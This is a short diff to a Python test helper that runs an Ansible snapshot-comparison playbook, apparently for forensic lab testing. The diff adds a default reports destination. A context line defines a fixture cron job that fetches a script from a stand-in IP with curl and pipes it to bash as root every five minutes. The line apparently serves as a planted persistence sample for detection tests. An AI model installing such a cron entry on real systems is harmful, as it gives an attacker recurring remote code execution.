@@ -38,7 +38,8 @@ JOB = b"*/5 * * * * root curl -s http://203.0.113.66/u | bash\n"
 def ask(folder: Path, *options: str, operator: dict[str, Any] | None = None, **fields: Any) -> CompletedProcess[str]:
     """Ask for a comparison; `operator` is laid over the lab's inventory."""
     (folder / "request.json").write_text(json.dumps({**VALID, **fields}))
-    (folder / "operator.yml").write_text(json.dumps({"all": {"hosts": {"localhost": operator or {}}}}))
+    settings = {"dfir_aws_reports_dest": str(folder / "reports"), **(operator or {})}
+    (folder / "operator.yml").write_text(json.dumps({"all": {"hosts": {"localhost": settings}}}))
     return run("ansible-playbook", "-i", "inventories/lab", "-i", str(folder / "operator.yml"),
                "playbooks/compare_snapshots.yml", "-e", f"@{folder}/request.json", *options)
 
